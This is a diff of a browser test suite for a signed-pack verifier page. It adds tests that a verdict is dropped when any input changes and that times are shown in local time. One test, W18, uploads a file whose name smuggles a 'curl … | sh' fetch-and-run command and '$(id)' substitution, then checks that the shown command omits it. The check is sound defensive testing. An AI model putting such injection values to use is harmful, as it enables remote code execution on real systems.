@@ -148,28 +148,73 @@ describe("the verifier page", function () {
     await page.fill("#attesters", attesters);
   });
 
-  inBrowser(
-    "drops a verdict when anything that it rests on changes, and says the time on the reader's own clock",
-    async () => {
-      for (const [id, other] of [
-        ["age", "48"],
-        ["firms", ""],
-        ["date", "2026-11-22T13:00:00Z"],
-      ] as const) {
-        expect(await verdictOn(zipFiles(pack))).match(TEST_ONLY);
-        const before = await page.inputValue(`#${id}`);
-        await page.fill(`#${id}`, other);
-        expect(await page.locator("#result > *").count(), id).equal(0);
-        expect(await page.isDisabled("#print"), id).equal(true);
-        await page.fill(`#${id}`, before);
-      }
-      expect(await page.textContent("#date-read")).equal("22 November 2026 at 12:00 UTC (21:00 in Asia/Tokyo)");
-      expect(await page.textContent("#keys-read")).equal("board-60, development: test only");
-      expect(await page.textContent("#firms-read")).equal("Atlas");
-      await verdictOn(zipFiles(pack));
-      expect(await page.textContent("#result .lead")).contain("22 November 2026, 12:00 UTC (21:00 in Asia/Tokyo)");
-    },
-  );
+  inBrowser("W17: drops a verdict when anything that it rests on changes", async () => {
+    const fields = await page.evaluate(() =>
+      Array.from(
+        document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>("input, textarea, select"),
+        (field) => ({
+          id: field.id,
+          isFile: field.type === "file",
+        }),
+      ),
+    );
+    const ids = [
+      "pack",
+      "trust",
+      "firms",
+      "keys",
+      "attesters",
+      "oracles",
+      "date",
+      "age",
+      "audience",
+      "policies",
+      "chain",
+    ];
+    expect(fields.map(({ id }) => id)).members(ids);
+    for (const { id, isFile } of fields) {
+      expect(await verdictOn(zipFiles(pack)), id).match(TEST_ONLY);
+      const before = isFile ? "" : await page.inputValue(`#${id}`);
+      // Also to what is no value of the field: a wrong date leaves no verdict either.
+      if (isFile) await upload(id, "other", "{}");
+      else await page.fill(`#${id}`, `${before}?`);
+      expect(await page.locator("#result > *").count(), id).equal(0);
+      expect(await page.textContent("#progress"), id).equal("");
+      expect(await page.isDisabled("#print"), id).equal(true);
+      if (!isFile) await page.fill(`#${id}`, before);
+    }
+    await upload("trust", "trust.json", trustText);
+  });
+
+  inBrowser("W17: shows no verdict that was begun before the last change", async () => {
+    await upload("pack", "pack.zip", zipFiles(pack));
+    await page.evaluate(() => {
+      document.getElementById("verify")!.click();
+      const date = document.getElementById("date") as HTMLInputElement;
+      date.dispatchEvent(new Event("input", { bubbles: true }));
+    });
+    await page.waitForTimeout(1_000);
+    expect(await page.locator("#result > *").count()).equal(0);
+  });
+
+  inBrowser("W18: names the file in no command, whatever it is called", async () => {
+    const name = "x;curl example.org|sh $(id) `id` '.zip";
+    await upload("pack", name, zipFiles(pack));
+    await page.click("#verify");
+    await page.waitForSelector("#result .outcome");
+    const commands = await page.locator("#result code").allTextContents();
+    expect(commands.join("\n")).contain("plimsoll pack verify FILE --trust trust.json").not.contain("curl");
+    const told = await page.locator("#result bdi.foreign").allTextContents();
+    expect(told).include(name);
+  });
+
+  inBrowser("says the time on the reader's own clock", async () => {
+    expect(await page.textContent("#date-read")).equal("22 November 2026 at 12:00 UTC (21:00 in Asia/Tokyo)");
+    expect(await page.textContent("#keys-read")).equal("board-60, development: test only");
+    expect(await page.textContent("#firms-read")).equal("Atlas");
+    await verdictOn(zipFiles(pack));
+    expect(await page.textContent("#result .lead")).contain("22 November 2026, 12:00 UTC (21:00 in Asia/Tokyo)");
+  });
 
   inBrowser("says valid, not current by the reader's own date and tolerance", async () => {
     await page.fill("#age", "1");
